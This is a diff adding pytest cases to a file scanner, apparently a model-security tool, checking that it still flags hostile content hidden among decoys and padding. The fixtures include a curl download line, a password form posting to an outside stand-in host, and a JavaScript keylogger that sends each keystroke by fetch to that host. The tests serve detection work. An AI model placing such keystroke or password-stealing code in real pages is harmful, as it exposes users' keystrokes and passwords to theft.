@@ -124,3 +124,32 @@ def test_a_command_far_behind_in_a_value_is_seen() -> None:
     found = inspect(json.dumps({"scripts": {"start": command}}).encode(), "package.json").findings
     assert any("downloads" in finding.message for finding in found)
     assert inspect(json.dumps({"scripts": {"start": command[:-6]}}).encode(), "package.json").findings == ()
+
+
+def test_scripts_in_scripts_are_read_a_few_times(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("modelscan_plus.formats.text.shell.machine._READ", 4_000)
+    fetches = "curl https://a.example/x -o b\n"
+    assert reasons(inspect(f"{fetches}{'eval ' * 300}a\n".encode(), "run.sh")) == ["budget-text"]
+    assert reasons(inspect(f"{fetches}{'eval ' * 20}a\n".encode(), "run.sh")) == []
+
+
+FORM = "<form action='{to}'><input type={kind} name=a></form>"
+
+
+@pytest.mark.parametrize("decoys", [0, 150])
+def test_many_forms_hide_no_other(decoys: int) -> None:
+    page = FORM.format(to="/a", kind="text") * decoys + FORM.format(to="https://a.example/b", kind="password")
+    assert any("enter in secret" in finding.message for finding in inspect(page.encode(), "a.html").findings)
+    harmless = FORM.format(to="/a", kind="password") * (decoys + 1)
+    assert not inspect(harmless.encode(), "a.html").findings
+
+
+@pytest.mark.parametrize("decoys", [0, 60])
+def test_many_listeners_hide_no_other(decoys: int) -> None:
+    listens = "".join(
+        f"document.addEventListener('input', f{number});function f{number}(){{}}\n" for number in range(decoys)
+    )
+    keys = "document.addEventListener('keydown', e => fetch('https://a.example/' + e.key));\n"
+    rules = {finding.rule for finding in inspect(f"{listens}{'/* */' * 400}{keys}".encode(), "a.js").findings}
+    assert rules
+    assert not inspect(listens.encode(), "a.js").findings
